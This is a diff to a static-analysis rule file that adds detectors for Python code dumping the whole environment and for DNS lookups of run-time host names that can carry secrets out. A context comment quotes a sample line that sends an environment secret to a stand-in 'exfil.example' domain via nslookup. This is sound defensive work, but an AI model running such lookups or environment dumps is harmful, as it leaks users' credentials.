@@ -127,6 +127,20 @@
  (#set! severity "warn")
  (#set! message "reads the whole environment, where secrets usually are"))
 
+; ... the method handed on to be called later: dataclasses.field(
+; default_factory=os.environ.copy), executor.submit(os.environ.copy),
+; defaultdict(os.environ.copy), {"env": os.environ.copy}
+([(argument_list [(attribute) (identifier)] @finding)
+  (keyword_argument value: [(attribute) (identifier)] @finding)
+  (pair value: [(attribute) (identifier)] @finding)
+  (list [(attribute) (identifier)] @finding)
+  (tuple [(attribute) (identifier)] @finding)]
+ (#resolves-to? @finding "os\\.environb?\\.(items|keys|values|copy)")
+ (#not-child-env? @finding)
+ (#set! id "py-env-dump")
+ (#set! severity "warn")
+ (#set! message "reads the whole environment, where secrets usually are"))
+
 ; In a comprehension the environment is read whole unless the only filter
 ; keeps the names with a constant prefix:
 ; {k: v for k, v in os.environ.items() if k.startswith("APP_")}
@@ -258,6 +272,24 @@
  (#set! id "py-dns-exfil")
  (#set! severity "high")
  (#set! message "puts a value of the environment into a host name it looks up: a secret sent out through DNS"))
+
+; a name computed at run time looked up (socket.getaddrinfo(label + ".zone")),
+; or the resolver handed on (pool.map(socket.gethostbyname, names)): DNS
+; carries the name out, so with the whole environment read it is the
+; environment sent out (analyze.c combine: py-env-exfil); alone it is info
+((call function: (_) @fn arguments: (argument_list . (_) @host)) @finding
+ (#resolves-to? @fn "socket\\.(gethostbyname|gethostbyname_ex|getaddrinfo)|dns\\.resolver\\.(resolve|query|Resolver\\.(resolve|query))")
+ (#not-value-match? @host ".")
+ (#not-match? @host "gethostname|getfqdn")
+ (#set! id "py-dns-lookup")
+ (#set! severity "info")
+ (#set! message "looks up a host name computed at run time (DNS can carry data out)"))
+
+((argument_list [(attribute) (identifier)] @fn) @finding
+ (#resolves-to? @fn "socket\\.(gethostbyname|gethostbyname_ex|getaddrinfo)|dns\\.resolver\\.(resolve|query)")
+ (#set! id "py-dns-lookup")
+ (#set! severity "info")
+ (#set! message "looks up a host name computed at run time (DNS can carry data out)"))
 
 ; subprocess.run(["nslookup", os.environ["KEY"] + ".exfil.example"]): the
 ; same through a program that looks a name up (nslookup, dig, host, ping)
